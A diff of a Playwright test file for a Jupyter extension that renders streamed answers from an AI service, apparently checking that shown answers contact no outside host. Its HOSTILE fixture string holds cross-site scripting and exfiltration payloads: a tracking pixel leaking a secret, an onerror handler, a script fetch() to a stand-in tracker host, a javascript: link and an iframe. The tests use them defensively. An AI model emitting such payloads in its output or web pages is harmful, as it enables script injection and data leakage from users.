@@ -76,10 +76,10 @@ def test_markdown_is_drawn_and_reads_the_same_in_a_fresh_server(
     path = notebook.path
     saved_answer(notebook)
     for with_extension in (True, False):
-        fresh = jupyter(frontend, extension=with_extension, fresh=True)
-        copy = fresh.root / path.name
+        elsewhere = jupyter(frontend, extension=with_extension, elsewhere=True)
+        copy = elsewhere.root / path.name
         copy.write_bytes(path.read_bytes())
-        again = open_notebook(copy, fresh, kernel=False)
+        again = open_notebook(copy, elsewhere, kernel=False)
         assert_drawn(again)
         assert again.watch.foreign == []
         assert again.watch.errors == []
@@ -133,7 +133,7 @@ def test_a_second_run_replaces_the_answer(service, open_notebook):
     assert saved_answer(notebook)["text/plain"] == "The second answer."
 
 
-TRAPS = """Look: ![pixel](https://tracker.invalid/a.png?q=secret) and <img src="https://tracker.invalid/b.png" onerror="alert(1)">
+HOSTILE = """Look: ![pixel](https://tracker.invalid/a.png?q=secret) and <img src="https://tracker.invalid/b.png" onerror="alert(1)">
 
 <script>fetch('https://tracker.invalid/c')</script> [click](javascript:alert(2)) <iframe src="https://tracker.invalid/d"></iframe>
 
@@ -146,7 +146,9 @@ TRAPS = """Look: ![pixel](https://tracker.invalid/a.png?q=secret) and <img src="
 def test_showing_an_answer_asks_no_other_host(service, open_notebook, page: Page, extension):
     dialogs: list[str] = []
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
-    service(Script(pieces=(Say(chunks=tuple(TRAPS[i : i + 9] for i in range(0, len(TRAPS), 9))),)), pace=0.02)
+    service(
+        Script(pieces=(Say(chunks=tuple(HOSTILE[i : i + 9] for i in range(0, len(HOSTILE), 9))),)), pace=0.02
+    )
     notebook = open_notebook([LOAD, "%%claude\nShow me."], extension=extension)
     notebook.run(0)
     notebook.run(1)
@@ -175,7 +177,7 @@ def requests_of(page: Page, html: Path) -> set[str]:
 
 @pytest.mark.parametrize("frontend", ["lab"])
 def test_nbconvert_html_reads_the_same_and_asks_nobody(service, open_notebook, page: Page, context, tmp_path):
-    service(MARKDOWN + TRAPS)
+    service(MARKDOWN + HOSTILE)
     notebook = open_notebook([LOAD, "%%claude\nShow me."])
     notebook.run(0)
     notebook.run(1)
@@ -191,3 +193,4 @@ def test_nbconvert_html_reads_the_same_and_asks_nobody(service, open_notebook, p
     expect(shown.get_by_role("heading", name="The heading")).to_be_visible()
     expect(shown.get_by_role("cell", name="two")).to_be_visible()
     expect(shown.locator("pre", has_text='print("hello")').last).to_be_visible()
+    expect(shown.get_by_text("Claude", exact=True)).to_be_visible()  # not the author's own words
